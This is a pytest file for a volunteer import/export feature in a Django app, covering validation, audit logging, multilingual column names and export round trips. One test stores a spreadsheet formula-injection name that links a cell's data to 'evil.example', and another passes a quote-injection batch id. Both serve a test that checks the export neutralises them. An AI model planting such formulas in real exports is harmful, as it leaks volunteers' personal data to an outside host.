"""Importing volunteers: all-or-nothing, template and export round trip."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl

from conftest import World
from tandem.core.models import AuditEvent, ImportBatch, Person
from tandem.onboarding.models import Volunteer
from tandem.onboarding.tests.helpers import volunteer

URL = "/o/zuid/p/moz/volunteers/import/"
HEADER = "given_name,family_name,email,phone,postcode,city,languages,expertise,availability,state\n"



def _file(text: str, name: str):
    f = io.BytesIO(text.encode())
    f.name = name
    return f


def test_one_bad_row_means_nothing_is_written(world: World) -> None:
    client = world.client_for("coordinator")
    text = HEADER + (
        "Anna,Smit,anna@example.org,,3073,Rotterdam,\"nl, tr\",maths,mon-evening,applied\n"
        "Bram,Visser,bram@example.org,,,Rotterdam,nl,,someday-noon,screening\n"
        "Cas,Bakker,cas@example.org,,,Rotterdam,nl,,,ready\n"
    )
    response = client.post(URL, {"file": _file(text, "v.csv")})
    html = response.content.decode()
    assert response.status_code == 400
    assert "Unknown time slots: someday-noon" in html and "need screening first" in html
    assert not Volunteer.objects.exists() and not ImportBatch.objects.exists()


def test_valid_file_creates_and_updates_then_export_round_trips(world: World) -> None:
    existing = volunteer(world, email="sam@example.org")
    client = world.client_for("coordinator")
    text = HEADER + (
        "Anna,Smit,anna@example.org,,3073,Rotterdam,\"nl, tr\",maths,mon-evening,applied\n"
        "Sam,Jansen,sam@example.org,,,Rotterdam,nl,care,,screening\n"
    )
    preview = client.post(URL, {"file": _file(text, "v.csv")})
    assert preview.status_code == 200
    batch = ImportBatch.objects.get()
    assert client.post(URL, {"batch": batch.pk}).status_code == 302
    anna = Volunteer.objects.get(person__email="anna@example.org")
    assert anna.languages == ["nl", "tr"] and anna.latitude == 51.8933  # GeoNames: 3073 Rotterdam
    existing.refresh_from_db()
    assert existing.state == "screening" and existing.expertise == ["care"]
    assert existing.transitions.get().get_reason_display() == "Imported from a file"
    export = client.get("/o/zuid/p/moz/volunteers/export/?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    assert [c.value for c in sheet[1]] == ["Given name", "Family name", "E-mail", "Phone", "Postcode", "City",
                                           "Languages", "Expertise", "Availability", "Status"]
    assert sheet.max_row == 3
    template = client.get("/o/zuid/p/moz/volunteers/import/template/?format=csv")
    assert template.content.decode("utf-8-sig").strip() == ",".join(c.value for c in sheet[1])


def test_every_imported_change_is_in_the_audit_trail(world: World) -> None:
    sam = volunteer(world, email="sam@example.org")
    Person.objects.filter(pk=sam.person.pk).update(phone="010 111 2222")
    client = world.client_for("coordinator")
    text = HEADER + (
        "Samira,Jansen,sam@example.org,06 1234 5678,,Rotterdam,nl,,,applied\n"
        "Anna,Smit,anna@example.org,,3073,Rotterdam,nl,,,applied\n"
    )
    client.post(URL, {"file": _file(text, "v.csv")})
    assert client.post(URL, {"batch": ImportBatch.objects.get().pk}).status_code == 302
    coordinator = world.users["coordinator"]
    person_change = AuditEvent.objects.get(subject=f"person:{sam.person.pk}", action="updated")
    assert person_change.actor == coordinator
    assert person_change.changes == {"given_name": ["Sam", "Samira"],
                                     "phone": ["010 111 2222", "06 1234 5678"]}
    volunteer_change = AuditEvent.objects.get(subject=f"volunteer:{sam.pk}").changes
    assert volunteer_change["languages"] == [[], ["nl"]] and "latitude" in volunteer_change  # geocoded
    anna = Volunteer.objects.get(person__email="anna@example.org")
    created = AuditEvent.objects.filter(person=anna.person, action="created")
    assert {e.subject for e in created} == {f"person:{anna.person.pk}", f"volunteer:{anna.pk}"}
    assert all(e.actor == coordinator for e in created)


def test_an_applicant_named_like_a_formula_is_exported_as_text(world: World) -> None:
    name = '=HYPERLINK("http://evil.example/?"&C2,"Open")'
    Person.objects.filter(pk=volunteer(world, email="x@example.org").person.pk).update(
        given_name=name, family_name="@SUM(1+1)", phone="+31 6 1234")
    client = world.client_for("coordinator")
    export = client.get("/o/zuid/p/moz/volunteers/export/?format=csv")
    row = next(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert (row["Given name"], row["Family name"], row["Phone"]) == ("'" + name, "'@SUM(1+1)", "'+31 6 1234")
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/o/zuid/p/moz/volunteers/export/?format=xlsx").content)).active
    assert sheet["A2"].value == name and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix


def test_confirming_twice_imports_once_and_an_expired_upload_says_so(world: World) -> None:
    client = world.client_for("coordinator")
    text = HEADER + "Anna,Smit,anna@example.org,,,Rotterdam,nl,,,applied\n"
    client.post(URL, {"file": _file(text, "v.csv")})
    batch = ImportBatch.objects.get()
    assert client.post(URL, {"batch": batch.pk}).status_code == 302
    again = client.post(URL, {"batch": batch.pk}, follow=True)
    assert "This file has already been imported." in again.content.decode()
    assert Volunteer.objects.filter(person__email="anna@example.org").count() == 1
    assert "already done or has expired" in client.post(URL, {"batch": "x'"}, follow=True).content.decode()

    client.post(URL, {"file": _file(text.replace("anna", "bea"), "v.csv")})
    stale = ImportBatch.objects.get(applied__isnull=True)
    ImportBatch.objects.filter(pk=stale.pk).update(created=stale.created - timedelta(days=2))
    expired = client.post(URL, {"batch": stale.pk}, follow=True).content.decode()
    assert "This upload has expired" in expired and "Upload the file again." in expired
    assert not Volunteer.objects.filter(person__email="bea@example.org").exists()


def test_the_column_list_gives_example_names_in_the_readers_language(world: World) -> None:
    """A French coordinator read "nl, tr, ar / Dutch, Turkish, Arabic" and "electrician, maths":
    names the file may hold, in English. They are in the reader's language, and a file written
    with them imports."""
    world.users["coordinator"].language = "fr"
    world.users["coordinator"].save(update_fields=["language"])
    client = world.client_for("coordinator")
    response = client.get(URL)
    assert response.status_code == 200
    html = response.content.decode()
    assert "néerlandais, turc, arabe" in html and "électricité, mathématiques" in html
    assert "Dutch, Turkish" not in html and "electrical work, maths" not in html
    text = HEADER + 'Anna,Smit,anna@example.org,,3073,Rotterdam,"néerlandais, turc",mathématiques,,applied\n'
    response = client.post(URL, {"file": _file(text, "v.csv")})
    assert response.status_code == 200, response.content.decode()[:2000]


def test_a_picture_renamed_csv_says_only_that_the_file_cannot_be_read(world: World) -> None:
    """The preview said "Colonnes manquantes", showed an empty table and asked to correct rows
    that were not marked. It says one thing, in French: upload a CSV or Excel file."""
    world.users["coordinator"].language = "fr"
    world.users["coordinator"].save(update_fields=["language"])
    client = world.client_for("coordinator")
    picture = io.BytesIO(b"\x89PNG\r\n\x1a\n" + bytes(range(0x20)) * 40)
    picture.name = "benevoles.csv"
    response = client.post(URL, {"file": picture})
    html = response.content.decode()
    assert response.status_code == 400
    assert "ne peut pas être lu comme un fichier CSV ou Excel" in html
    assert "Colonnes manquantes" not in html and "import-preview" not in html
    assert not Volunteer.objects.exists() and not ImportBatch.objects.exists()


def test_a_french_list_with_nom_and_prenom_is_read_and_its_errors_are_punctuated_in_french(
        world: World) -> None:
    # A French coordinator's own list says "Prénom;Nom": "Nom" was refused as an unknown column
    # and every row lacked its family name; and the row's problems read "Statut: …" in French.
    client = world.client_for("coordinator")
    text = ("Prénom;Nom;E-mail;Statut\n"
            "Lucie;Bernard;lucie.bernard@exemple.fr;Candidature reçue\n"
            "Hugo;Petit;hugo.petit@exemple.fr;Candidat\n")
    response = client.post(URL, {"file": _file(text, "benevoles.csv")}, headers={"accept-language": "fr"})
    html = response.content.decode()
    assert "Colonnes inconnues" not in html and "Nom de famille est obligatoire" not in html
    assert "Statut\u00a0: «\u00a0Candidat\u00a0»" in html and "Statut:" not in html
    text = text.replace(";Candidat\n", ";Candidature reçue\n")
    client.post(URL, {"file": _file(text, "benevoles.csv")}, headers={"accept-language": "fr"})
    client.post(URL, {"batch": ImportBatch.objects.get().pk})
    assert Volunteer.objects.get(person__email="hugo.petit@exemple.fr").person.family_name == "Petit"


def test_an_english_list_with_first_and_last_name_is_read(world: World) -> None:
    client = world.client_for("coordinator")
    text = "First name,Last name,E-mail\nAnna,Smit,anna@example.org\n"
    assert client.post(URL, {"file": _file(text, "v.csv")}).status_code == 200


def test_the_import_says_it_makes_no_log_in_and_how_to_give_one(world: World) -> None:
    """A new coordinator imported mentors and waited for them to log in: the page says, before and
    after, that importing creates no log-in and that an invitation does."""
    client = world.client_for("coordinator")
    page = client.get(URL, headers={"accept-language": "nl"}).content.decode()
    assert "Importeren maakt geen account aan en verstuurt geen e-mail." in page
    text = HEADER + "Anna,Smit,anna@example.org,,3073,Rotterdam,nl,maths,mon-evening,applied\n"
    client.post(URL, {"file": _file(text, "v.csv")})
    done = client.post(URL, {"batch": ImportBatch.objects.get().pk}, follow=True).content.decode()
    assert "Imported: 1 new, 0 updated." in done
    assert "To let a volunteer log in, invite them from Invitations" in done
    assert Person.objects.get(email="anna@example.org").user is None
